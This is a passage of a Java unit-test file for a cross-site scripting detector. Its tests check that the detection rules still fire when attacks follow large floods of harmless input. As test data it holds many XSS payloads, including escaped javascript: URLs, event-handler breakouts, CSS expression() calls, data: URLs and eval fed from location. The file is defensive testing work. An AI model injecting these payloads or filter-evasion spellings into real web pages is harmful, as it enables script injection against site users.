      String flood = c[1].repeat(100_000 / c[1].length());
      assertRule(c[0], flood + c[2]);
    }
  }

  @Test
  void anAttackAfterAFloodOfPathsSchemesOrEscapesIsFoundAsAlone() {
    // A flood's triggers are passed over by what each one alone cannot start (a lone hex escape, a colon with no
    // parenthesis ahead, a colon between colons): the attack after it is read as it would be alone, and a near miss
    // after it still passes. Each also with every letter and digit after it, which defeats the value's alphabet.
    String[][] cases = {
        {";C:\\a\\b ", "x:expression(alert(1))", "C:\\data\\x"},
        {";C:\\a\\b ", " javascript:alert(1)", " C:\\d\\e"},
        {";C:\\a\\b ", "<a href=\\6a avascript:alert(1)>", "<a href=\\a\\b>"},
        {";C:\\a\\b ", "<a href=\\d\\a ta:text/html,x>", "<a href=\\d:x>"},
        {":", "x:expression(alert(1))", "x:expression"},
        {":", " javascript:alert(1)", " javascript: the good parts"},
        {":", "behavior:url(x.htc)", "color:url(x.png)"},
        {"\\\\127.0.0.1\\", " \\u006aavascript:alert(1)", " \\127\\x"},
        {"\\\\127.0.0.1\\", " top['al\\x65rt'](1)", " top['al\\x65rt']"},
        {"\\\\127.0.0.1\\", " \\x3cscript\\x3e", "\\x3cb\\x3e"},
        {"\\\\127.0.0.1\\", " \\74svg onload=alert(1)\\76", "\\74b\\76"},
        {"\\", " \\u006aavascript:alert(1)", " \\u006a"},
        {"\\", "\\x3cscript\\x3e", "\\\\x3cscript\\\\x3e"},
        {"\\", " al\\u0065rt(1)", " al\\u0065rt"},
        {"data://", " data:text/html,x", " data:image/png,x"},
        {"data://", "<iframe src=data:text/html,x>", "<img src=data:image/png,x>"},
        {"data://", " data:\\x09text/javascript,x", " data:\\x09text/plain,x"},
        {"=`", "';alert(1)//", "';a=b//"},
        {"\\u", " \\u006aavascript:alert(1)", " \\u006a"}, {"\\x", " \\x3cscript\\x3e", " \\x3cb\\x3e"},
        {"\\nX:", " x:expression(alert(1))", " x:expression"}, {"\\nX:", " javascript:alert(1)", " javascript: x"},
        {"eval(", " alert(1)", " alert('Saved')"}, {"eval(", " eval(location.hash)", " eval(x)"},
        {"eval(", " [1].find(confirm)", " [1].find(x)"}, {"eval(", " _=execScript,_(name)", " _=x,_(y)"},
        {"=`", "x\" onmouseover=alert(1) y=\"", "x\" title=hello y=\""}};
    String letters = " abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    for (String[] c : cases) {
      String flood = c[0].repeat(100_000 / c[0].length());
      Detection alone = detector.detect(Normalized.of(c[1]));
      assertNotNull(alone, c[1]);
      assertEquals(alone, detector.detect(Normalized.of(flood + c[1])), c[0] + " then " + c[1]);
      assertEquals(alone, detector.detect(Normalized.of(flood + c[1] + letters)), c[0] + " then " + c[1]);
      assertPasses(flood + c[2], flood + c[2] + letters);
    }
  }

  @Test
  void aColonOrBackslashAfterAFloodOfInertOnesIsReadAsAlone() {
    // Colons that end no scheme and open no CSS call, and lone backslashes that spell nothing, are passed over where
    // the scan meets them: one that ends a scheme (in a tag or not, spaced, escaped) or opens a call is still read.
    String[][] cases = {
        {"X:", "<a href=javascript:alert(1)>", "<a href=x:y>"}, {"X:", " java\tscript:alert(1)", " java\tscript"},
        {"X:", "<style>p{x: expression (alert(1))}</style>", "<style>p{x: express (a)}</style>"},
        {"\\nX:", " data:text/html,<b>", " data:image/png,x"}, {"\\nX:", " x:\\65xpression(alert(1))", " x:\\65x"},
        {";C:\\a\\b ", " \\6a avascript:alert(1)", " \\6a avascript"},
        {";C:\\a\\b ", "<a href=vbscript:msgbox(1)>", "<a href=vb:x>"},
        {"\\u", " \\u006aavascript:alert(1)", " \\u00"}, {"\\n", " \\x3cscript\\x3e", " \\x3cb\\x3e"}};
    for (String[] c : cases) {
      String flood = assertFoundAsAloneAfterAFloodOf(c[0], c[1]);
      assertPasses(flood, flood + c[2], flood + c[2] + Floods.EVERY_LETTER);
    }
  }

  @Test
  void aSchemeSpelledWithOctalOrPaddedHexAfterAFloodOfEscapesIsReadAsAlone() {
    // An escape after a flood of UNC paths, lone u escapes or newlines is read for the first letter of a scheme in
    // each of its readings: octal (three digits opening with 1: \152 is j, \126 is V), CSS hex with leading zeros.
    String[][] cases = {
        {"\\\\127.0.0.1\\", " \\152avascript:alert(1)", " \\152ava"},
        {"\\\\127.0.0.1\\", " \\126bscript:alert(1)", " \\127bscript:x"},
        {"\\u", " \\00006a avascript:alert(1)", " \\00006b avascript:x"},
        {"\\nX:", "<a href=\\144ata:text/html,x>", "<a href=\\145ata:text/html,x>"}};
    for (String[] c : cases) {
      String flood = assertFoundAsAloneAfterAFloodOf(c[0], c[1]);
      assertPasses(flood + c[2], flood + c[2] + Floods.EVERY_LETTER);
    }
  }

  @Test
  void anEvaluatorAfterAFloodOfUnfedEvaluatorsIsJudgedByTheSourceInItsArgument() {
    // A call of an evaluator, Function, write or call is passed over while no name ahead within its span starts
    // with a source (none is searched for while the value's letters spell no source): the one fed from a source
    // after the flood, even one cut at the span's end, is found as alone.
    String[][] cases = {
        {"eval(", " eval(location.hash)", " eval(x)"}, {"eval(", " eval(" + "a ".repeat(46) + "namespace)", " eval(a)"},
        {"Function(", " Function(location.hash.slice(1))()", " Function(x)()"},
        {"x.call(", " eval.call(this, name)", " eval.call(this, x)"},
        {"eval(", " document.write(LOCATION)", " document.write(x)"}, {"eval(", " (alert)(1)", " (x)(1)"}};
    for (String[] c : cases) {
      String flood = assertFoundAsAloneAfterAFloodOf(c[0], c[1]);
      assertPasses(flood + c[2], flood + c[2] + Floods.EVERY_LETTER, "location " + flood + c[2]);
    }
  }

  /**
   * Asserts {@code attack} after 100 KB of {@code unit}, with and without every letter after it, is found as it is
   * alone; returns the flood.
   */
  private String assertFoundAsAloneAfterAFloodOf(String unit, String attack) {
    String flood = unit.repeat(100_000 / unit.length());
    Detection alone = detector.detect(Normalized.of(attack));
    assertNotNull(alone, attack);
    assertEquals(alone, detector.detect(Normalized.of(flood + attack)), unit + " then " + attack);
    assertEquals(alone, detector.detect(Normalized.of(flood + attack + Floods.EVERY_LETTER)), unit + " then " + attack);
    return flood;
  }

  @Test
  void anEvaluatorIsFedFromASourceOnlyWithinItsOwnParentheses() {
    // The next source is remembered across calls; the parentheses up to it are still read for each call, and a name
    // running over the span's end is still read up to there.
    assertRule("xss.js-sink", "eval(x);eval(location)", "eval(eval(x)+location)", "eval(" + "x".repeat(80) + " name)",
        "eval(x);eval(y);eval(z, name)", "eval(" + "a ".repeat(46) + "namespace)");
    assertPasses("eval(x);f(location)", "eval(x)+location", "eval(" + "x ".repeat(60) + "location)",
        "eval(code);eval(other);window.name", "eval(a(b)) || location");
  }

  @Test
  void aRunOfTheSameCharacterStillLetsTheLastOneMatch() {
    // The scan of a value without markup skips a run of one trigger character after its first: only the first can
    // follow a name. A call or a dialog right after such a run is still read.
    assertRule("xss.js-sink", "((((((alert(1)", "((((((x)(alert)(1)", "x,,,,,,a=alert,a(1)");
    assertRule("xss.js-sink", "[[[[[[top[/al/.source+/ert/.source](1)");
  }

  @Test
  void anAttributeValueIsReadForAUrlWhateverItStartsWith() {
    // Only a value starting with junk, an escape, & or a scheme's first letter can hold a URL: each still does.
    assertRule("xss.js-url", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=\\u006aavascript:alert(1)>x</a>",
        "<a href=\\x01javascript:alert(1)>x</a>", "<a href=\tjavascript:alert(1)>x</a>",
        "<a href=\u0001javascript:alert(1)>x</a>", "<a href=\\x20vbscript:msgbox(1)>x</a>",
        "<a href=\\x0blivescript:x>x</a>", "<a href=mocha:x>x</a>", "<a href=\\6a avascript:alert(1)>x</a>");
    assertRule("xss.data-url", "<object data=data:text/html,<b>x</b>>", "<iframe src=\tdata:text/html,x>");
    assertRule("xss.js-context", "<a title=&{alert(1)};>x</a>");
  }

  @Test
  void aBreakoutHandlerOrStyleIsReadAfterManyShortAttributes() {
    // Values are scanned for a handler or style '=' (five letters or more) before any breakout list is read.
    assertRule("xss.attribute-breakout", "a=b c=d e=f\" onmouseover=alert(1) x=\"");
    assertRule("xss.css-expression", "x\" style=x:expression(alert(1)) y=\"");
  }

  @Test
  void aLongValueIsReadForABreakoutAtItsStartAndAfterItsQuotes() {
    // A long value reads its bounded list at the start before it is searched for a breakout attribute: what the
    // list finds still needs one (an @click alone is read as script, not as a breakout).
    String prose = "lorem ipsum dolor sit amet ".repeat(60);
    assertRule("xss.attribute-breakout", "x onmouseover=alert(1) " + prose, "\" onfocus=alert(1) autofocus " + prose,
        "x @click=alert(1) onload=y " + prose, prose + " x\" onmouseover=alert(1) y=\"",
        "a=b " + prose + " \" onmouseover=alert(1) x=\"");
    assertRule("xss.css-expression", "x style=x:expression(alert(1)) " + prose);
    assertRule("xss.js-sink", "x @click=alert(1) " + prose);
  }

  @Test
  void aLongFloodOfNearMissesLeavesOutOnlyTheChecksItsCharactersCannotComplete() {
    // A long value's letters and marks are profiled (XssAlphabet): a flood of inert tags, calls, colons or escapes
    // is not read check by check, but one attack anywhere in it brings its characters, and its check, back.
    assertRule("xss.script-tag", "<a b=".repeat(1000) + "<script>",
        "\uff1c\uff53".repeat(500) + "\uff1cscript\uff1e", "\\\\n".repeat(1000) + " \\x3cscript\\x3e");
    assertRule("xss.event-handler", "<div class=x>".repeat(100) + "<x onxxx=1>",
        "<!--".repeat(300) + "<svg/onload=alert(1)>");
    assertRule("xss.js-url", "<a href=".repeat(200) + "<a href=javascript:alert(1)>",
        "<a href=".repeat(200) + "<a href=\\u006aavascript:alert(1)>",
        "\\\\n".repeat(1000) + "\\u006aavascript:alert(1)", "http://a".repeat(200) + " javascript:alert(1)");
    assertRule("xss.obfuscated-call", "\\\\n".repeat(1000) + " al\\u0065rt(1)", "x(".repeat(200) + " alert&lparx1)");
    assertRule("xss.js-context", "\\\\n".repeat(1000) + " \\'-alert(1)//",
        "a(b)c;d|e&sh'f".repeat(100) + "';alert(1)//");
    assertRule("xss.js-sink", "sh(".repeat(1000) + " alert(1)", "sh(".repeat(1000) + " top['al'+'ert'](1)",
        "x(".repeat(200) + " alert&#40;1&#41;");
    assertRule("xss.css-expression", "\"a\":".repeat(300) + "x:expression(alert(1))");
    assertRule("xss.attribute-breakout", "a=b ".repeat(100) + "x\" onmouseover=alert(1) y=\"");
    assertPasses("<div class=x>".repeat(100), "<a b=".repeat(1000), "\\\\n".repeat(1000), "sh(".repeat(1000),
        "http://a".repeat(200), "\"a\":".repeat(300), "a(b)c;d|e&sh'f".repeat(100));
  }

  @Test
  void aTagInAFloodOfTagsIsReadInsideWhenItHoldsAColonOrBackslash() {
    // A flood of tags with a colon or backslash somewhere (here at the end) is read tag by tag without reading each
    // tag's inside again; a tag in the middle that holds one must still have it read.
    String tags = "<a b=".repeat(2000);
    String letters = " abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789:/-\\";
    assertRule("xss.js-url", tags + "<a b=javascript:alert(1)>" + tags + letters,
        tags + "<a b=x><a b=\\u006aavascript:alert(1)>" + tags + letters);
    assertRule("xss.css-expression", tags + "<a b=x:expression(alert(1))>" + tags + letters);
    assertPasses(tags + "<a b=x:y>" + tags + letters, tags + "<a b=x\\y>" + tags + letters);
  }

  @Test
  void aTagInAFloodOfPlainTagsIsReadInFullOnceItLeavesWhatASkimCanClear() {
    // Plain tags (short names, no quote, no value opening like a URL) are skimmed to their end; each way out of
    // plain still has the tag read attribute by attribute. An '=' opens a value only after a name: "=/" is a name.
    String tags = "<a b=".repeat(2000);
    String letters = Floods.EVERY_LETTER;
    assertRule("xss.event-handler", tags + "<a onxxx=1>" + tags + letters, tags + "<a b=x onxxx=1>" + tags + letters,
        tags + "<a @click=go()>" + tags + letters, tags + "<x (click)=go()>" + tags + letters,
        tags + "<a b=\">\" onxxx=1>" + tags + letters, tags + "<img src=`a`onerror=go()>" + tags + letters,
        tags + "<img src=x/y onerror=go()>" + tags + letters, tags + "<a\t=/onxxx=1>" + tags + letters);
    assertRule("xss.js-url", tags + "<a b= javascript:alert(1)>" + tags + letters);
    assertRule("xss.js-context", tags + "<a b=&{alert(1)};>" + tags + letters);
    assertRule("xss.data-url", tags + "<img src=data:text/html,x>" + tags + letters);
    assertRule("xss.css-expression", tags + "<a style=x:expression(alert(1))>" + tags + letters);
    assertPasses(tags + "<a b=x/y c=d>" + tags + letters, tags + "<img src=\"x.png\">" + tags + letters);
  }

  @Test
  void aValueLongerThanAMegabyteIsReadToItsEnd() {
    // the inspector's scan budget (input.maxScanChars, up to 64 MiB) bounds a request; the detector has no cap of
    // its own past which an attack would go unread
    String padding = "x".repeat((1 << 20) + 1);
    assertEquals("xss.script-tag", rule(padding + "<script>"));
    assertEquals("xss.script-tag", rule("<script>" + padding));
  }
}
